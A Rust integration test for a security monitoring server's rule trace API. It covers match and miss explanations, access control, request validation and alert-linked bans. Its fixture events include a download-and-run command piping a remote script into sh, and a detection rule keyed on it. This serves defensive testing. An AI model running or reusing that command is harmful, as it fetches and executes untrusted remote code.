//! `POST /api/v1/rules/trace` against a real `vigil serve`, then the same in a real browser
//! (`tests/browser/trace.mjs`, Debian's Chromium driven by playwright-core): why a stored event
//! did or did not match a rule, entry by entry; who may ask (a viewer yes, an ingest token or
//! nobody no); bad requests are refused with a reason; and the ban an alert caused links to it.
//!
//! The browser half needs node, `npm ci` in `tests/browser` and `/usr/bin/chromium`; without
//! them it says so and skips, unless `VIGIL_REQUIRE_TOOLS=1` (CI) makes it fail. The API half
//! always runs.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{Server, add_user, create_token, curl, wait_until};
use serde_json::json;

const RULE_ID: &str = "5b1e0000-0000-4000-8000-000000000019";
const RULE: &str = r#"title: Download run by root
id: 5b1e0000-0000-4000-8000-000000000019
description: root fetched something with curl from a web server
detection:
    selection:
        process.command_line|contains: 'curl http'
        user.name: root
    condition: selection
level: high
tags: [attack.execution, attack.t1059.004, t1059.004]
"#;
const RELATED: &str = r#"title: Root activity from the network
id: 5b1e0000-0000-4000-8000-000000000020
detection:
    selection:
        user.name: root
    condition: selection
level: low
"#;

/// The ledger sequence number of the event whose `event.id` is `id`.
fn seq_of(data: &Path, id: &str) -> Option<u64> {
    let mut reader = vigil_ledger::LedgerReader::open(data).ok()?;
    let (first, end) = (reader.first_seq(), reader.end_seq());
    (first..end).find(|&seq| {
        reader
            .read_event(seq)
            .is_ok_and(|e| e.get_str("event.id") == Some(id))
    })
}

fn trace(url: &str, auth: &[String], body: &serde_json::Value) -> common::Answer {
    curl(
        "POST",
        &format!("{url}/api/v1/rules/trace"),
        &[auth, &["Content-Type: application/json".to_string()]].concat(),
        Some(&body.to_string()),
    )
}

#[test]
fn traces_explain_matches_and_misses_in_the_api_and_the_browser() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("download.yml"), RULE).unwrap();
    std::fs::write(rules.join("related.yml"), RELATED).unwrap();
    let password = "trace test password 1";
    add_user(&data, "vera", "viewer", password);
    let ingest = create_token(&data, "ingest", "seed");
    let viewer = create_token(&data, "viewer", "reader");
    let server = Server::start(
        &data,
        &[
            "--rules",
            rules.to_str().unwrap(),
            "--ban-rule",
            "Download run by root",
        ],
    );
    let url = server.url.clone();
    let body = [
        // No message: the alert page shows a summary of the web request instead.
        json!({"event.id": "hit", "user.name": "root", "process.command_line": "curl http://198.51.100.9/x.sh | sh", "source.ip": "203.0.113.77",
            "http.request.method": "GET", "url.original": "/cgi-bin/run?cmd=curl", "http.response.status_code": 200}),
        json!({"event.id": "miss", "message": "miss", "user.name": "bob", "process.command_line": "curl http://198.51.100.9/x.sh | sh", "source.ip": "203.0.113.78"}),
    ]
    .iter()
    .map(|e| e.to_string() + "\n")
    .collect::<String>();
    let a = common::ingest_ndjson(&url, &ingest, &body);
    assert_eq!(a.status, 200, "{}", a.body);
    let auth = vec![format!("Authorization: Bearer {viewer}")];
    let mut alert_id = 0;
    assert!(
        wait_until(30, || {
            let a = curl(
                "GET",
                &format!("{url}/api/v1/alerts?rule={RULE_ID}"),
                &auth,
                None,
            );
            match a.json()["alerts"]
                .as_array()
                .and_then(|l| l.first().cloned())
            {
                Some(al) => {
                    alert_id = al["id"].as_u64().unwrap_or(0);
                    true
                }
                None => false,
            }
        }),
        "an alert for the matching event"
    );
    let (hit, miss) = (
        seq_of(&data, "hit").expect("hit stored"),
        seq_of(&data, "miss").expect("miss stored"),
    );

    // A match: every entry holds, and the detector agrees.
    let a = trace(&url, &auth, &json!({"rule": RULE_ID, "seq": hit}));
    assert_eq!(a.status, 200, "{}", a.body);
    let t = &a.json()["traces"][0];
    assert_eq!(t["matched"], true, "{t}");
    assert_eq!(t["detector_matched"], true);
    let entries = t["searches"][0]["alternatives"][0].as_array().unwrap();
    assert!(entries.iter().all(|e| e["matched"] == true), "{t}");
    assert_eq!(a.json()["event"]["event.id"], "hit");

    // A miss: the entry that failed, with the event's value.
    let a = trace(
        &url,
        &auth,
        &json!({"rule": "Download run by root", "seq": miss}),
    );
    assert_eq!(a.status, 200, "{}", a.body);
    let t = &a.json()["traces"][0];
    assert_eq!(t["matched"], false);
    assert_eq!(t["detector_matched"], false);
    let user = &t["searches"][0]["alternatives"][0][1];
    assert_eq!(user["field"], "user.name");
    assert_eq!(user["matched"], false);
    assert_eq!(user["event_values"], json!(["bob"]));
    let summary = t["summary"].as_str().unwrap();
    assert!(
        summary.contains("user.name matches none of [root] (event: bob)"),
        "{summary}"
    );

    // An event given whole, not stored.
    let a = trace(
        &url,
        &auth,
        &json!({"rule": RULE_ID, "event": {"user": {"name": "root"}, "process.command_line": "curl http://x"}}),
    );
    assert_eq!(a.status, 200, "{}", a.body);
    assert_eq!(a.json()["traces"][0]["matched"], true);

    // Refusals, each with a reason.
    for (body, status, says) in [
        (json!({"rule": RULE_ID}), 400, "give either"),
        (
            json!({"rule": RULE_ID, "seq": hit, "event": {}}),
            400,
            "give either",
        ),
        (
            json!({"rule": RULE_ID, "seq": hit, "extra": 1}),
            400,
            "unknown field",
        ),
        (
            json!({"rule": "no such rule", "seq": hit}),
            404,
            "no loaded rule",
        ),
        (json!({"rule": RULE_ID, "seq": 1u64 << 40}), 404, "no event"),
        (
            json!({"rule": "x".repeat(2000), "seq": hit}),
            400,
            "longer than",
        ),
        (json!({"rule": RULE_ID, "event": [1]}), 400, "event"),
    ] {
        let a = trace(&url, &auth, &body);
        assert_eq!(a.status, status, "{body}: {}", a.body);
        assert!(a.body.contains(says), "{body}: {}", a.body);
    }
    // A deeply nested event is refused by the JSON reader's depth limit, not a crash.
    let deep = format!(
        "{{\"rule\":\"{RULE_ID}\",\"event\":{}1{}}}",
        "{\"a\":".repeat(10_000),
        "}".repeat(10_000)
    );
    let a = curl(
        "POST",
        &format!("{url}/api/v1/rules/trace"),
        &[auth.clone(), vec!["Content-Type: application/json".into()]].concat(),
        Some(&deep),
    );
    assert_eq!(a.status, 400, "{}", a.body);
    // Who may ask: a viewer yes (above); an ingest token and nobody no.
    let ingest_auth = vec![format!("Authorization: Bearer {ingest}")];
    assert_eq!(
        trace(&url, &ingest_auth, &json!({"rule": RULE_ID, "seq": hit})).status,
        403
    );
    assert_eq!(
        trace(&url, &[], &json!({"rule": RULE_ID, "seq": hit})).status,
        401
    );
    // The alert carries its rule's description and kind.
    let a = curl(
        "GET",
        &format!("{url}/api/v1/alerts/{alert_id}"),
        &auth,
        None,
    );
    assert_eq!(
        a.json()["rule"]["description"],
        "root fetched something with curl from a web server"
    );
    assert_eq!(a.json()["rule"]["kind"], "detection");
    // The ban the alert caused names it (the UI's link reads this).
    assert!(
        wait_until(30, || {
            let a = curl("GET", &format!("{url}/api/v1/decisions"), &auth, None);
            a.json()["decisions"].as_array().is_some_and(|d| {
                d.iter()
                    .any(|d| d["value"] == "203.0.113.77" && d["alert"] == alert_id)
            })
        }),
        "the ban names its alert"
    );

    if let Some(why) = common::browser_missing() {
        common::skip(&why);
        server.stop();
        return;
    }
    let artifacts = std::env::var_os("VIGIL_ARTIFACTS")
        .map(|d| PathBuf::from(d).join("trace"))
        .unwrap_or_else(|| dir.path().join("artifacts"));
    let out = Command::new("node")
        .arg("trace.mjs")
        .current_dir(common::browser_dir())
        .env("VIGIL_URL", &url)
        .env("VIGIL_USER", "vera")
        .env("VIGIL_PASSWORD", password)
        .env("ALERT_ID", alert_id.to_string())
        .env("RULE_ID", RULE_ID)
        .env("MISS_SEQ", miss.to_string())
        .env("ARTIFACTS", &artifacts)
        .output()
        .expect("run node");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    println!("{stdout}");
    assert!(
        out.status.success() && stdout.contains("STEPS PASSED"),
        "the browser test failed:\n{stdout}\n{stderr}\n--- server log ---\n{}",
        server.log()
    );
    server.stop();
}
